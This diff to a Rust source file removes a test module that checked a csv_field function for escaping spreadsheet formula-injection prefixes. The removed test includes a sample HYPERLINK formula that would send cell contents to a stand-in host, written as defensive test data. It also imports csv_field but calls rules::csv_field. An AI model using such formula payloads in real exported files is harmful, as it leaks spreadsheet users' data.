@@ -194,20 +194,3 @@ pub(crate) fn print_standings(table: &ScoreTable, for_programs: bool) -> Result<
     }
     print(&in_table(&standings))
 }
-
-#[cfg(test)]
-mod tests {
-    use super::csv_field;
-
-    #[test]
-    fn a_name_is_not_a_formula_in_a_spreadsheet() {
-        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"] {
-            assert_eq!(rules::csv_field(formula), format!("'{formula}"));
-        }
-        let link = "=HYPERLINK(\"http://example.org/\"&A1,\"x\")";
-        assert_eq!(rules::csv_field(link), "\"'=HYPERLINK(\"\"http://example.org/\"\"&A1,\"\"x\"\")\"");
-        for name in ["Ann", "a-b", "'quoted", "1=1"] {
-            assert_eq!(rules::csv_field(name), name);
-        }
-    }
-}
